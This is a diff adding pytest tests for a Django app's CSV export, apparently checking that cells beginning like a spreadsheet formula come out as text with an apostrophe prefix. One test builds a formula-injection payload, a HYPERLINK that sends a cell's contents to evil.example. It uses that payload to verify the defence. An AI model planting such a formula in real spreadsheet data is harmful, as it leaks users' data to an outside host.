@@ -190,3 +190,57 @@ def test_demoted_admin_can_no_longer_edit_others_posts(someone_elses_post):
         f"/api/posts/{post['id']}/", {"title": "no more"}, content_type="application/json"
     )
     assert response.status_code == 403 and response.json()["code"] == "not_author"
+
+
+@pytest.fixture
+def pro_company():
+    company = CompanyFactory()
+    give_subscription(company, status="active", lookup_key="pro_monthly")
+    return company, MembershipFactory(company=company, role="admin").user
+
+
+def _exported_rows(company, admin) -> list[list[str]]:
+    response = company_client(company, admin).get("/api/posts/export/")
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+@pytest.mark.parametrize(
+    "trigger", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"]
+)
+def test_csv_cells_that_start_a_formula_are_quoted(pro_company, trigger):
+    """Title and body starting like a formula come out as text: prefixed with an apostrophe."""
+    from django_tenants.utils import tenant_context
+
+    from posts.models import Post
+
+    company, admin = pro_company
+    payload = trigger + 'HYPERLINK("http://evil.example/?"&A1,"open")'
+    # Stored as is (the API trims leading whitespace; other writers may not).
+    with tenant_context(company):
+        Post.objects.create(title=payload, body=payload, author=admin)
+    header, row = _exported_rows(company, admin)
+    title, body = row[header.index("title")], row[header.index("body")]
+    assert title == body == "'" + payload
+
+
+def test_csv_formula_sent_through_the_api_is_exported_as_text(pro_company):
+    company, admin = pro_company
+    client = company_client(company, admin)
+    assert _create(client, "=1+2").status_code == 201
+    assert (
+        client.post(
+            "/api/posts/", {"title": "-2+3", "body": "@SUM(A1:A9)"}, content_type="application/json"
+        ).status_code
+        == 201
+    )
+    rows = _exported_rows(company, admin)
+    assert [(r[1], r[2]) for r in rows[1:]] == [("'=1+2", "b"), ("'-2+3", "'@SUM(A1:A9)")]
+
+
+def test_csv_cells_that_merely_contain_formula_characters_are_unchanged(pro_company):
+    company, admin = pro_company
+    _create(company_client(company, admin), "a = b + c - d @ e")
+    rows = _exported_rows(company, admin)
+    assert rows[1][1] == "a = b + c - d @ e"
+    assert rows[1][0].isdigit()  # ids and times are never prefixed
